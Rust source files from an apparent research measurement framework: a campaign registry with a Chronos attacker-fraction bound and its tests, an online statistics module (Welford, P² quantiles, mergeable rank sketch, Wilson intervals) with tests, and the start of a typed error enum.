    Field { name: "n", kind: FieldKind::U64 },
    Field { name: "honest", kind: FieldKind::U64 },
    Field { name: "malicious", kind: FieldKind::U64 },
    Field { name: "attacker_fraction", kind: FieldKind::F64 },
    Field { name: "success", kind: FieldKind::Bool },
];

/// The SVI-C sweep: trial `idx` is `N = idx` honest lookups against the
/// paper's 89-address poisoned response.
struct ChronosBoundCampaign;

const CHRONOS_MALICIOUS: u32 = 89;
const CHRONOS_ROUNDS: usize = 24;

impl Campaign for ChronosBoundCampaign {
    fn trials(&self) -> usize {
        CHRONOS_ROUNDS
    }
    fn run_trial(&self, idx: usize) -> Record {
        let n = idx as u32;
        Record(vec![
            n.into(),
            (4 * n).into(),
            CHRONOS_MALICIOUS.into(),
            chronos::bound::attacker_fraction(n, CHRONOS_MALICIOUS).into(),
            chronos::bound::attack_succeeds(n, CHRONOS_MALICIOUS).into(),
        ])
    }
}

fn build_chronos_bound(_scale: Scale) -> Box<dyn Campaign> {
    Box::new(ChronosBoundCampaign)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::record::{encode_line, Value};

    #[test]
    fn registry_names_are_unique_and_findable() {
        for s in all() {
            assert!(std::ptr::eq(find(s.name).expect("findable"), s));
        }
        let mut names: Vec<_> = all().iter().map(|s| s.name).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), all().len(), "duplicate scenario names");
        assert!(find("nope").is_none());
    }

    #[test]
    fn every_scenario_produces_schema_conforming_records() {
        let scale = Scale {
            resolvers: 4,
            domains: 4,
            ad_fraction: 0.0001, // clamps to 30/region
            shared: 4,
            pool_servers: 4,
            workers: 1,
            seed: 2020,
        };
        for s in all() {
            // The heavyweight attacks are exercised by the dedicated
            // determinism tests; here just shape-check the cheap scans.
            if matches!(s.name, "table1" | "table2") {
                continue;
            }
            let c = s.build(scale);
            assert!(c.trials() > 0, "{}: no trials", s.name);
            let record = c.run_trial(0);
            // Encoding asserts arity; decoding asserts kinds.
            let line = encode_line(s.schema, &record);
            crate::record::decode_line(s.schema, &line)
                .unwrap_or_else(|e| panic!("{}: {e}", s.name));
        }
    }

    #[test]
    fn chronos_bound_records_cross_at_11() {
        let c = build_chronos_bound(Scale::quick());
        let success = |idx: usize| match c.run_trial(idx).0[4] {
            Value::Bool(b) => b,
            ref v => panic!("expected bool, got {v:?}"),
        };
        assert!(success(11));
        assert!(!success(12));
    }

    #[test]
    fn trial_records_match_experiment_seeds() {
        // A campaign trial must describe the same probe as the
        // `experiments` driver's item at the same index: same population,
        // same per-item seed (both read `experiments::salts`).
        let scale =
            Scale { domains: 6, resolvers: 6, pool_servers: 6, workers: 1, ..Scale::quick() };

        let pop = domain_nameservers(scale.domains, scale.seed ^ salts::FIG5_POP);
        let direct = scan_nameserver(&pop[3], scan_seed(scale.seed ^ salts::FIG5_SCAN, 3));
        let via_registry = find("fig5").expect("registered").build(scale).run_trial(3);
        assert_eq!(via_registry.0[1], Value::Bool(direct.signed));
        assert_eq!(via_registry.0[3], opt(direct.min_fragment_size));

        // Ratelimit: the whole aggregate must agree, not just one field —
        // fold the campaign records and compare with the driver's result.
        let direct = experiments::ratelimit_scan(scale);
        let c = find("ratelimit").expect("registered").build(scale);
        let (mut kod, mut limiting, mut config_open) = (0usize, 0usize, 0usize);
        for idx in 0..c.trials() {
            let record = c.run_trial(idx);
            kod += usize::from(record.0[0] == Value::Bool(true));
            limiting += usize::from(record.0[1] == Value::Bool(true));
            config_open += usize::from(record.0[2] == Value::Bool(true));
        }
        assert_eq!(c.trials(), direct.scanned);
        assert_eq!(kod, direct.kod_senders);
        assert_eq!(limiting, direct.rate_limiting);
        assert_eq!(config_open, direct.config_open);

        // Snoop (fig6/fig7/table4): verified counts must agree with the
        // survey driver.
        let direct = experiments::resolver_survey(scale);
        let c = find("fig6").expect("registered").build(scale);
        let verified =
            (0..c.trials()).filter(|&idx| c.run_trial(idx).0[0] == Value::Bool(true)).count();
        assert_eq!(c.trials(), direct.probed);
        assert_eq!(verified, direct.verified);
    }
}
