//! Online aggregation: every statistic the campaign coordinator reports is
//! computed in one pass over the merged record stream with memory
//! independent of the trial count — Welford mean/variance, P²-estimated
//! quantiles, Wilson score intervals for success rates, and (for fields
//! declared `HistU64`/`HistF64`) a fixed-bin [`StreamHist`] plus a
//! mergeable [`RankSketch`].
//!
//! Two families of estimator live here, with different merge stories:
//!
//! * **Sequential folds** (Welford, P²): correct when fed the merged
//!   `(shard, index)`-ordered stream, which the coordinator always does —
//!   summaries are bit-identical for any shard count or worker schedule.
//!   P² is *not* mergeable: combining two P² states is undefined.
//! * **Mergeable state** ([`StreamHist`], [`RankSketch`]): pure multiset
//!   functions of the samples. `merge(a, b) == merge(b, a)` exactly, and a
//!   sharded merge equals the single-stream fold bit-for-bit — the
//!   property that makes shard placement free at paper scale (1.58 M
//!   records). The property tests in `tests/stats_props.rs` pin both
//!   families against exact batch oracles.

pub use runner::StreamHist;

use crate::record::{Field, FieldKind, HistSpec, Record, Schema, Value};

// ------------------------------------------------------------- Welford

/// Welford's online mean/variance, plus exact min/max.
#[derive(Debug, Clone, Default)]
pub struct Welford {
    n: u64,
    mean: f64,
    m2: f64,
    min: f64,
    max: f64,
}

impl Welford {
    /// Folds one sample in.
    pub fn push(&mut self, x: f64) {
        self.n += 1;
        if self.n == 1 {
            (self.min, self.max) = (x, x);
        } else {
            self.min = self.min.min(x);
            self.max = self.max.max(x);
        }
        let delta = x - self.mean;
        self.mean += delta / self.n as f64;
        self.m2 += delta * (x - self.mean);
    }

    /// Samples folded so far.
    pub fn count(&self) -> u64 {
        self.n
    }

    /// Running mean (0 with no samples).
    pub fn mean(&self) -> f64 {
        if self.n == 0 {
            0.0
        } else {
            self.mean
        }
    }

    /// Population variance `m2 / n` (0 below two samples).
    pub fn variance(&self) -> f64 {
        if self.n < 2 {
            0.0
        } else {
            self.m2 / self.n as f64
        }
    }

    /// Standard deviation.
    pub fn stddev(&self) -> f64 {
        self.variance().sqrt()
    }

    /// Smallest sample (0 with none).
    pub fn min(&self) -> f64 {
        if self.n == 0 {
            0.0
        } else {
            self.min
        }
    }

    /// Largest sample (0 with none).
    pub fn max(&self) -> f64 {
        if self.n == 0 {
            0.0
        } else {
            self.max
        }
    }
}

// ------------------------------------------------------- P² quantiles

/// The P² single-quantile estimator (Jain & Chlamtac, 1985): tracks the
/// `p`-quantile of a stream with five markers and no sample storage.
///
/// The first five observations are held exactly; from the sixth on, the
/// middle markers move by parabolic (falling back to linear) interpolation
/// toward their desired positions. Estimates are always within the
/// observed `[min, max]` and converge on the true quantile for
/// well-behaved streams; the property tests bound the error against exact
/// batch quantiles.
#[derive(Debug, Clone)]
pub struct P2Quantile {
    p: f64,
    /// Marker heights (`q`) and 1-based positions (`n`), 5 of each.
    q: [f64; 5],
    n: [f64; 5],
    count: u64,
    /// Exact buffer for the first five observations.
    init: Vec<f64>,
}

impl P2Quantile {
    /// An estimator for the `p`-quantile, `0 < p < 1`.
    pub fn new(p: f64) -> Self {
        assert!(p > 0.0 && p < 1.0, "quantile must be in (0, 1)");
        P2Quantile { p, q: [0.0; 5], n: [0.0; 5], count: 0, init: Vec::with_capacity(5) }
    }

    /// Folds one sample in.
    pub fn push(&mut self, x: f64) {
        self.count += 1;
        if self.init.len() < 5 {
            self.init.push(x);
            if self.init.len() == 5 {
                let mut sorted = self.init.clone();
                sorted.sort_by(f64::total_cmp);
                self.q.copy_from_slice(&sorted);
                self.n = [1.0, 2.0, 3.0, 4.0, 5.0];
            }
            return;
        }
        let p = self.p;
        // Locate the cell, extending the extremes when x falls outside.
        let k = if x < self.q[0] {
            self.q[0] = x;
            0
        } else if x >= self.q[4] {
            self.q[4] = x;
            3
        } else {
            // x < q[4] here, so some cell matches; the fallback guards the
            // supervision path against NaN-poisoned markers ever panicking.
            (0..4).find(|&i| x < self.q[i + 1]).unwrap_or(3)
        };
        for i in (k + 1)..5 {
            self.n[i] += 1.0;
        }
        // Desired positions of the three middle markers for this count.
        let total = self.count as f64;
        for i in 1..4 {
            let want = match i {
                1 => 1.0 + (total - 1.0) * p / 2.0,
                2 => 1.0 + (total - 1.0) * p,
                _ => 1.0 + (total - 1.0) * (1.0 + p) / 2.0,
            };
            let d = want - self.n[i];
            if (d >= 1.0 && self.n[i + 1] - self.n[i] > 1.0)
                || (d <= -1.0 && self.n[i - 1] - self.n[i] < -1.0)
            {
                let s = d.signum();
                let candidate = self.parabolic(i, s);
                self.q[i] = if self.q[i - 1] < candidate && candidate < self.q[i + 1] {
                    candidate
                } else {
                    self.linear(i, s)
                };
                self.n[i] += s;
            }
        }
    }

    fn parabolic(&self, i: usize, s: f64) -> f64 {
        let (q, n) = (&self.q, &self.n);
        q[i] + s / (n[i + 1] - n[i - 1])
            * ((n[i] - n[i - 1] + s) * (q[i + 1] - q[i]) / (n[i + 1] - n[i])
                + (n[i + 1] - n[i] - s) * (q[i] - q[i - 1]) / (n[i] - n[i - 1]))
    }

    fn linear(&self, i: usize, s: f64) -> f64 {
        let j = if s > 0.0 { i + 1 } else { i - 1 };
        self.q[i] + s * (self.q[j] - self.q[i]) / (self.n[j] - self.n[i])
    }

    /// The current estimate. While the stream is still entirely inside
    /// the five-sample buffer (≤ 5 samples) this is the exact
    /// nearest-rank quantile of everything seen; `None` with no samples.
    pub fn estimate(&self) -> Option<f64> {
        if self.count == 0 {
            return None;
        }
        if self.count as usize <= self.init.len() {
            let mut sorted = self.init.clone();
            sorted.sort_by(f64::total_cmp);
            return Some(exact_quantile(&sorted, self.p));
        }
        Some(self.q[2])
    }

    /// Samples folded so far.
    pub fn count(&self) -> u64 {
        self.count
    }
}

/// Exact nearest-rank quantile of a **sorted** slice (the reference the
/// property tests compare P² against, and the small-sample fallback).
pub fn exact_quantile(sorted: &[f64], p: f64) -> f64 {
    assert!(!sorted.is_empty(), "quantile of an empty slice");
    let rank = (p * (sorted.len() - 1) as f64).round() as usize;
    sorted[rank.min(sorted.len() - 1)]
}

// ------------------------------------------------------- Rank sketch

/// Magnitudes below this collapse into the sketch's zero bucket.
const SKETCH_MIN_MAG: f64 = 1e-9;

/// A mergeable quantile sketch with a relative-error guarantee
/// (DDSketch-style log-width buckets, Masson et al. 2019).
///
/// Samples map to integer keys `⌈ln|x| / ln γ⌉` with `γ = (1+α)/(1−α)`,
/// kept as sorted `(key, count)` buckets per sign plus a zero bucket, so a
/// quantile estimate is within relative error `α` of the exact
/// nearest-rank batch quantile: bucket counts are exact, and the
/// representative value `2γᵏ/(γ+1)` is within `α` of every sample in
/// bucket `k`.
///
/// Unlike [`P2Quantile`], the state is a pure multiset function of the
/// samples: [`RankSketch::merge`] is bucket-wise counter addition, hence
/// exactly commutative, associative, and order-insensitive — merging
/// per-shard sketches equals the single-stream fold bit-for-bit.
///
/// Memory is `O(log(max/min) / α)` buckets: ~1 k for this workspace's
/// value ranges at the default `α = 1 %`, ≤ ~72 k for the full finite
/// `f64` range — bounded regardless of stream length.
#[derive(Debug, Clone, PartialEq)]
pub struct RankSketch {
    alpha: f64,
    ln_gamma: f64,
    /// Sorted `(key, count)` buckets for negative samples (key of `|x|`).
    neg: Vec<(i32, u64)>,
    /// Count of samples with `|x| <` [`SKETCH_MIN_MAG`].
    zero: u64,
    /// Sorted `(key, count)` buckets for positive samples.
    pos: Vec<(i32, u64)>,
    count: u64,
    min: f64,
    max: f64,
}

impl RankSketch {
    /// A sketch guaranteeing relative error `alpha`, `0 < alpha < 1`.
    pub fn new(alpha: f64) -> RankSketch {
        assert!(alpha > 0.0 && alpha < 1.0, "relative error must be in (0, 1)");
        let gamma = (1.0 + alpha) / (1.0 - alpha);
        RankSketch {
            alpha,
            ln_gamma: gamma.ln(),
            neg: Vec::new(),
            zero: 0,
            pos: Vec::new(),
            count: 0,
            min: f64::INFINITY,
            max: f64::NEG_INFINITY,
        }
    }

    /// The default campaign sketch: 1 % relative error.
    pub fn default_error() -> RankSketch {
        RankSketch::new(0.01)
    }

    fn key(&self, magnitude: f64) -> i32 {
        (magnitude.ln() / self.ln_gamma).ceil() as i32
    }

    fn bucket_value(&self, key: i32) -> f64 {
        let gamma = (1.0 + self.alpha) / (1.0 - self.alpha);
        2.0 * gamma.powi(key) / (gamma + 1.0)
    }

    /// Folds one sample in; non-finite samples are ignored.
    pub fn push(&mut self, x: f64) {
        if !x.is_finite() {
            return;
        }
        self.count += 1;
        self.min = self.min.min(x);
        self.max = self.max.max(x);
        if x.abs() < SKETCH_MIN_MAG {
            self.zero += 1;
            return;
        }
        let key = self.key(x.abs());
        let buckets = if x > 0.0 { &mut self.pos } else { &mut self.neg };
        match buckets.binary_search_by_key(&key, |&(k, _)| k) {
            Ok(i) => buckets[i].1 += 1,
            Err(i) => buckets.insert(i, (key, 1)),
        }
    }

    /// Finite samples folded so far.
    pub fn count(&self) -> u64 {
        self.count
    }

    /// The estimated `p`-quantile (`0 ≤ p ≤ 1`), within relative error
    /// `alpha` of the exact nearest-rank batch quantile; `None` with no
    /// samples. Estimates are clamped into the observed `[min, max]`.
    pub fn quantile(&self, p: f64) -> Option<f64> {
        if self.count == 0 {
            return None;
        }
        // Nearest-rank target matching `exact_quantile` (0-based).
        let target = (p.clamp(0.0, 1.0) * (self.count - 1) as f64).round() as u64;
        let mut acc = 0u64;
        // Ascending sample order: most-negative first — that is the
        // negative buckets by *descending* key (larger key = larger
        // magnitude = smaller value), then zero, then positives ascending.
        for &(key, c) in self.neg.iter().rev() {
            acc += c;
            if acc > target {
                return Some((-self.bucket_value(key)).clamp(self.min, self.max));
            }
        }
        acc += self.zero;
        if acc > target {
            return Some(0.0f64.clamp(self.min, self.max));
        }
        for &(key, c) in &self.pos {
            acc += c;
            if acc > target {
                return Some(self.bucket_value(key).clamp(self.min, self.max));
            }
        }
        // Unreachable for consistent state; fall back to the maximum.
        Some(self.max)
    }

    /// Adds `other`'s buckets into `self` — exactly equivalent to having
    /// pushed both streams into one sketch, in any order.
    ///
    /// # Panics
    ///
    /// Panics if the sketches were built with different `alpha` — their
    /// key spaces are incompatible, a declaration bug.
    pub fn merge(&mut self, other: &RankSketch) {
        assert!(
            self.alpha.to_bits() == other.alpha.to_bits(),
            "merging sketches of different relative error"
        );
        for &(key, c) in &other.pos {
            match self.pos.binary_search_by_key(&key, |&(k, _)| k) {
                Ok(i) => self.pos[i].1 += c,
                Err(i) => self.pos.insert(i, (key, c)),
            }
        }
        for &(key, c) in &other.neg {
            match self.neg.binary_search_by_key(&key, |&(k, _)| k) {
                Ok(i) => self.neg[i].1 += c,
                Err(i) => self.neg.insert(i, (key, c)),
            }
        }
        self.zero += other.zero;
        self.count += other.count;
        self.min = self.min.min(other.min);
        self.max = self.max.max(other.max);
    }
}

// --------------------------------------------------- Wilson intervals

/// The 95% Wilson score interval for a binomial proportion — the
/// success-rate confidence interval reported for every boolean field.
/// Returns `(low, high)`; `(0, 1)` with no samples.
pub fn wilson95(successes: u64, n: u64) -> (f64, f64) {
    if n == 0 {
        return (0.0, 1.0);
    }
    let z = 1.959_963_984_540_054_f64; // Φ⁻¹(0.975)
    let n_f = n as f64;
    let p = successes as f64 / n_f;
    let z2 = z * z;
    let denom = 1.0 + z2 / n_f;
    let centre = p + z2 / (2.0 * n_f);
    let margin = z * (p * (1.0 - p) / n_f + z2 / (4.0 * n_f * n_f)).sqrt();
    (((centre - margin) / denom).max(0.0), ((centre + margin) / denom).min(1.0))
}

// ----------------------------------------------------- Field aggregates

/// Per-field online aggregate, shaped by the field's declared kind.
#[derive(Debug, Clone)]
pub enum FieldAgg {
    /// Boolean: success counts + Wilson interval at render time.
    Bool {
        /// `true` observations.
        trues: u64,
        /// `false` observations.
        falses: u64,
    },
    /// Numeric (`U64`/`F64`): moments, extremes and three P² quantiles
    /// (boxed: the marker state dwarfs the other variants).
    Num(Box<NumAgg>),
    /// Declared histogram (`HistU64`/`HistF64`): moments plus the
    /// schema-declared fixed-bin histogram and a mergeable rank sketch.
    Hist(Box<HistAgg>),
    /// String: distinct-value counts in first-seen order, capped.
    Str {
        /// `(value, occurrences)`, at most [`STR_DISTINCT_CAP`] entries.
        counts: Vec<(String, u64)>,
        /// Observations dropped after the cap was hit.
        overflow: u64,
    },
}

/// The numeric per-field aggregate state.
#[derive(Debug, Clone)]
pub struct NumAgg {
    /// Mean/variance/min/max.
    pub welford: Welford,
    /// Streaming median.
    pub p50: P2Quantile,
    /// Streaming 90th percentile.
    pub p90: P2Quantile,
    /// Streaming 99th percentile.
    pub p99: P2Quantile,
}

impl NumAgg {
    fn new() -> Box<NumAgg> {
        Box::new(NumAgg {
            welford: Welford::default(),
            p50: P2Quantile::new(0.5),
            p90: P2Quantile::new(0.9),
            p99: P2Quantile::new(0.99),
        })
    }

    fn push(&mut self, x: f64) {
        self.welford.push(x);
        self.p50.push(x);
        self.p90.push(x);
        self.p99.push(x);
    }
}

/// The per-field aggregate state for a declared histogram field: the
/// figure-ready buckets, a mergeable quantile sketch, and Welford moments.
/// Everything in here is a pure multiset function of the samples, so the
/// rendered section is identical for any shard split of the stream.
#[derive(Debug, Clone)]
pub struct HistAgg {
    /// Mean/variance/min/max.
    pub welford: Welford,
    /// The schema-declared fixed-bin histogram.
    pub hist: StreamHist,
    /// Mergeable rank sketch (1 % relative error) for p50/p90/p99.
    pub sketch: RankSketch,
}

impl HistAgg {
    fn new(spec: HistSpec) -> Box<HistAgg> {
        Box::new(HistAgg {
            welford: Welford::default(),
            hist: StreamHist::new(spec.lo, spec.width, spec.bins),
            sketch: RankSketch::default_error(),
        })
    }

    fn push(&mut self, x: f64) {
        self.welford.push(x);
        self.hist.push(x);
        self.sketch.push(x);
    }
}

/// Distinct string values tracked per field before overflow counting.
pub const STR_DISTINCT_CAP: usize = 16;

/// The full online aggregate over one campaign's record stream.
#[derive(Debug, Clone)]
pub struct Aggregate {
    /// Schema the records conform to.
    pub schema: &'static Schema,
    /// Records folded so far.
    pub records: u64,
    /// Per-field aggregates, parallel to the schema.
    pub fields: Vec<(FieldAgg, u64)>, // (aggregate, null count)
}

impl Aggregate {
    /// An empty aggregate for a schema.
    pub fn new(schema: &'static Schema) -> Self {
        let fields = schema
            .iter()
            .map(|f| {
                let agg = match f.kind {
                    FieldKind::Bool => FieldAgg::Bool { trues: 0, falses: 0 },
                    FieldKind::U64 | FieldKind::F64 => FieldAgg::Num(NumAgg::new()),
                    FieldKind::HistU64(spec) | FieldKind::HistF64(spec) => {
                        FieldAgg::Hist(HistAgg::new(spec))
                    }
                    FieldKind::Str => FieldAgg::Str { counts: Vec::new(), overflow: 0 },
                };
                (agg, 0)
            })
            .collect();
        Aggregate { schema, records: 0, fields }
    }

    /// Folds one record in (values parallel to the schema).
    pub fn push(&mut self, record: &Record) {
        self.records += 1;
        for ((agg, nulls), value) in self.fields.iter_mut().zip(&record.0) {
            match (agg, value) {
                (_, Value::Null) => *nulls += 1,
                (FieldAgg::Bool { trues, .. }, Value::Bool(true)) => *trues += 1,
                (FieldAgg::Bool { falses, .. }, Value::Bool(false)) => *falses += 1,
                (FieldAgg::Num(num), v) => match v.as_sample() {
                    Some(sample) => num.push(sample),
                    // A non-numeric value under a numeric field can only
                    // reach here through a schema/value mismatch; count it
                    // as a null rather than crash the coordinator mid-merge.
                    None => *nulls += 1,
                },
                (FieldAgg::Hist(hist), v) => match v.as_sample() {
                    Some(sample) => hist.push(sample),
                    None => *nulls += 1,
                },
                (FieldAgg::Str { counts, overflow }, Value::Str(s)) => {
                    if let Some(entry) = counts.iter_mut().find(|(v, _)| v == s) {
                        entry.1 += 1;
                    } else if counts.len() < STR_DISTINCT_CAP {
                        counts.push((s.clone(), 1));
                    } else {
                        *overflow += 1;
                    }
                }
                // Any other schema/value mismatch: tolerated as a null so
                // `push` is total — the strict decode upstream already
                // rejects malformed records, and an aggregator must never
                // be the thing that kills a supervised merge.
                (_, _) => *nulls += 1,
            }
        }
    }

    /// Renders only the `explain_*`-prefixed fields — the compact
    /// per-campaign failure-explanation aggregate that becomes the
    /// `"explain"` section of `summary.json`. Schemas without explain
    /// fields render an empty array, so the section is always present and
    /// machine-checkable.
    pub fn render_explain_json(&self, indent: &str) -> String {
        let explain: Vec<_> = self
            .schema
            .iter()
            .zip(&self.fields)
            .filter(|(f, _)| f.name.starts_with("explain_"))
            .collect();
        if explain.is_empty() {
            return "[]".into();
        }
        let mut out = String::from("[");
        for (i, (field, (agg, nulls))) in explain.into_iter().enumerate() {
            if i > 0 {
                out.push(',');
            }
            out.push('\n');
            out.push_str(indent);
            render_field_json(&mut out, field, agg, *nulls);
        }
        out.push('\n');
        out.push_str(&indent[..indent.len().saturating_sub(2)]);
        out.push(']');
        out
    }

    /// Renders the per-field aggregates as a JSON array (one object per
    /// field, schema order) — the `"fields"` section of `summary.json`.
    pub fn render_json(&self, indent: &str) -> String {
        let mut out = String::from("[");
        for (i, (field, (agg, nulls))) in self.schema.iter().zip(&self.fields).enumerate() {
            if i > 0 {
                out.push(',');
            }
            out.push('\n');
            out.push_str(indent);
            render_field_json(&mut out, field, agg, *nulls);
        }
        out.push('\n');
        out.push_str(&indent[..indent.len().saturating_sub(2)]);
        out.push(']');
        out
    }
}

fn render_field_json(out: &mut String, field: &Field, agg: &FieldAgg, nulls: u64) {
    use std::fmt::Write as _;
    let _ = write!(out, "{{ \"field\": \"{}\", \"nulls\": {nulls}", field.name);
    match agg {
        FieldAgg::Bool { trues, falses } => {
            let n = trues + falses;
            let rate = if n == 0 { 0.0 } else { *trues as f64 / n as f64 };
            let (lo, hi) = wilson95(*trues, n);
            let _ = write!(
                out,
                ", \"kind\": \"bool\", \"true\": {trues}, \"false\": {falses}, \
                 \"rate\": {rate}, \"wilson95_low\": {lo}, \"wilson95_high\": {hi}"
            );
        }
        FieldAgg::Num(num) => {
            let welford = &num.welford;
            let _ = write!(
                out,
                ", \"kind\": \"num\", \"count\": {}, \"mean\": {}, \"stddev\": {}, \
                 \"min\": {}, \"max\": {}",
                welford.count(),
                welford.mean(),
                welford.stddev(),
                welford.min(),
                welford.max()
            );
            for (label, q) in [("p50", &num.p50), ("p90", &num.p90), ("p99", &num.p99)] {
                match q.estimate() {
                    Some(v) => {
                        let _ = write!(out, ", \"{label}\": {v}");
                    }
                    None => {
                        let _ = write!(out, ", \"{label}\": null");
                    }
                }
            }
        }
        FieldAgg::Hist(hist) => {
            let welford = &hist.welford;
            let _ = write!(
                out,
                ", \"kind\": \"hist\", \"count\": {}, \"mean\": {}, \"stddev\": {}, \
                 \"min\": {}, \"max\": {}",
                welford.count(),
                welford.mean(),
                welford.stddev(),
                welford.min(),
                welford.max()
            );
            for (label, p) in [("p50", 0.5), ("p90", 0.9), ("p99", 0.99)] {
                match hist.sketch.quantile(p) {
                    Some(v) => {
                        let _ = write!(out, ", \"{label}\": {v}");
                    }
                    None => {
                        let _ = write!(out, ", \"{label}\": null");
                    }
                }
            }
            let _ = write!(
                out,
                ", \"hist\": {{ \"lo\": {}, \"width\": {}, \"counts\": [",
                hist.hist.lo(),
                hist.hist.width()
            );
            for (i, c) in hist.hist.counts().iter().enumerate() {
                let _ = write!(out, "{}{c}", if i > 0 { ", " } else { "" });
            }
            out.push_str("] }");
        }
        FieldAgg::Str { counts, overflow } => {
            let _ = write!(out, ", \"kind\": \"str\", \"values\": {{");
            for (i, (v, c)) in counts.iter().enumerate() {
                let escaped: String = crate::record::encode_line(
                    &[Field { name: "v", kind: FieldKind::Str }],
                    &Record(vec![Value::Str(v.clone())]),
                );
                // Reuse the record encoder's escaping: extract the value
                // part of `{"v":"..."}`.
                let quoted = &escaped[5..escaped.len() - 1];
                let _ = write!(out, "{}{quoted}: {c}", if i > 0 { ", " } else { " " });
            }
            let _ = write!(out, " }}, \"overflow\": {overflow}");
        }
    }
    out.push_str(" }");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn welford_matches_textbook_values() {
        let mut w = Welford::default();
        for x in [2.0, 4.0, 4.0, 4.0, 5.0, 5.0, 7.0, 9.0] {
            w.push(x);
        }
        assert_eq!(w.count(), 8);
        assert!((w.mean() - 5.0).abs() < 1e-12);
        assert!((w.variance() - 4.0).abs() < 1e-12);
        assert_eq!(w.min(), 2.0);
        assert_eq!(w.max(), 9.0);
    }

    #[test]
    fn p2_median_of_uniform_ramp_is_central() {
        let mut q = P2Quantile::new(0.5);
        for i in 0..1001 {
            q.push(f64::from(i));
        }
        let est = q.estimate().expect("samples seen");
        assert!((est - 500.0).abs() < 20.0, "median estimate {est} too far from 500");
    }

    #[test]
    fn p2_small_samples_are_exact() {
        let mut q = P2Quantile::new(0.5);
        for x in [9.0, 1.0, 5.0] {
            q.push(x);
        }
        assert_eq!(q.estimate(), Some(5.0));
        assert_eq!(P2Quantile::new(0.9).estimate(), None);
        // Exactly five samples: still the exact tail, not the median
        // marker.
        let mut q = P2Quantile::new(0.99);
        for x in [1.0, 2.0, 3.0, 4.0, 5.0] {
            q.push(x);
        }
        assert_eq!(q.estimate(), Some(5.0));
    }

    #[test]
    fn wilson_interval_brackets_the_rate() {
        let (lo, hi) = wilson95(38, 100);
        assert!(lo < 0.38 && 0.38 < hi);
        assert!(lo > 0.28 && hi < 0.49, "({lo}, {hi})");
        assert_eq!(wilson95(0, 0), (0.0, 1.0));
        let (lo, hi) = wilson95(5, 5);
        assert!(lo > 0.4 && hi == 1.0, "({lo}, {hi})");
    }

    #[test]
    fn rank_sketch_tracks_exact_quantiles_within_alpha() {
        let mut s = RankSketch::default_error();
        let samples: Vec<f64> = (0..2000).map(|i| f64::from(i) - 500.0).collect();
        for &x in &samples {
            s.push(x);
        }
        assert_eq!(s.count(), 2000);
        let mut sorted = samples.clone();
        sorted.sort_by(f64::total_cmp);
        for p in [0.1, 0.5, 0.9, 0.99] {
            let est = s.quantile(p).expect("samples seen");
            let exact = exact_quantile(&sorted, p);
            assert!(
                (est - exact).abs() <= 0.01 * exact.abs() + 1e-9,
                "p{p}: estimate {est} vs exact {exact}"
            );
        }
        assert_eq!(RankSketch::default_error().quantile(0.5), None);
    }

    #[test]
    fn rank_sketch_merge_is_order_insensitive() {
        let samples: Vec<f64> = (0..500).map(|i| (f64::from(i) * 0.7).sin() * 250.0).collect();
        let mut whole = RankSketch::default_error();
        for &x in &samples {
            whole.push(x);
        }
        let (mut a, mut b) = (RankSketch::default_error(), RankSketch::default_error());
        for &x in &samples[..123] {
            a.push(x);
        }
        for &x in &samples[123..] {
            b.push(x);
        }
        let mut ab = a.clone();
        ab.merge(&b);
        let mut ba = b.clone();
        ba.merge(&a);
        assert_eq!(ab, whole, "sharded merge must equal the single stream");
        assert_eq!(ba, whole, "merge must commute");
    }

    #[test]
    fn hist_field_aggregates_and_renders_buckets() {
        const SCHEMA: &Schema = &[Field {
            name: "ttl",
            kind: FieldKind::HistU64(HistSpec { lo: 0.0, width: 10.0, bins: 3 }),
        }];
        let mut agg = Aggregate::new(SCHEMA);
        for v in [Value::U64(5), Value::U64(15), Value::U64(999), Value::Null] {
            agg.push(&Record(vec![v]));
        }
        match &agg.fields[0] {
            (FieldAgg::Hist(h), 1) => {
                assert_eq!(h.hist.counts(), &[1, 1, 1]);
                assert_eq!(h.welford.count(), 3);
                assert_eq!(h.sketch.count(), 3);
            }
            other => panic!("unexpected hist aggregate: {other:?}"),
        }
        let json = agg.render_json("    ");
        assert!(
            json.contains("\"hist\": { \"lo\": 0, \"width\": 10, \"counts\": [1, 1, 1] }"),
            "{json}"
        );
    }

    #[test]
    fn aggregate_counts_nulls_and_strings() {
        const SCHEMA: &Schema = &[
            Field { name: "ok", kind: FieldKind::Bool },
            Field { name: "label", kind: FieldKind::Str },
            Field { name: "ms", kind: FieldKind::F64 },
        ];
        let mut agg = Aggregate::new(SCHEMA);
        agg.push(&Record(vec![Value::Bool(true), Value::Str("a".into()), Value::F64(1.0)]));
        agg.push(&Record(vec![Value::Bool(false), Value::Str("a".into()), Value::Null]));
        agg.push(&Record(vec![Value::Null, Value::Str("b".into()), Value::F64(3.0)]));
        assert_eq!(agg.records, 3);
        match &agg.fields[0] {
            (FieldAgg::Bool { trues: 1, falses: 1 }, 1) => {}
            other => panic!("unexpected bool aggregate: {other:?}"),
        }
        match &agg.fields[1].0 {
            FieldAgg::Str { counts, overflow: 0 } => {
                assert_eq!(counts, &[("a".to_string(), 2), ("b".to_string(), 1)]);
            }
            other => panic!("unexpected str aggregate: {other:?}"),
        }
        let json = agg.render_json("    ");
        assert!(json.contains("\"rate\": 0.5"), "{json}");
    }
}
