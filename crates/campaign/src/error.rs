//! Typed campaign errors.
//!
//! Everything the orchestration layer can fail on is a [`CampaignError`]
//! variant, so the coordinator can *classify* a failure — is this a dead
//! worker the supervisor should re-lease, a corrupt checkpoint to
//! quarantine, or an operator mistake to report? — instead of matching on
//! message strings. A worker failure must never be able to crash the
//! coordinator: the supervision path carries no `unwrap`/`expect`/`panic!`
//! on data that crosses a process boundary (worker exit codes, stdout
//! streams, checkpoint bytes all arrive here as typed variants).

use std::path::PathBuf;

/// Every failure the campaign layer reports.
#[derive(Debug)]
pub enum CampaignError {
    /// An I/O operation failed (`context` names the path and operation).
    Io {
        /// What was being done to which path.
        context: String,
        /// The underlying OS error.
        source: std::io::Error,
    },
    /// A checkpoint holds an invalid record *before* its final line —
    /// not a torn tail but mid-file corruption. [`crate::checkpoint`]
    /// quarantines the file instead of returning this from recovery; the
    /// variant survives for merge-time validation, where corruption in a
    /// supposedly-complete shard is fatal.
    CorruptCheckpoint {
        /// The checkpoint file.
        path: PathBuf,
        /// 1-based line number of the first invalid record.
        line: usize,
    },
    /// A record failed schema decoding during the merge pass.
    Schema {
        /// The checkpoint file being merged.
        path: PathBuf,
        /// 1-based record number within the file.
        record: usize,
        /// What the decoder rejected.
        detail: String,
    },
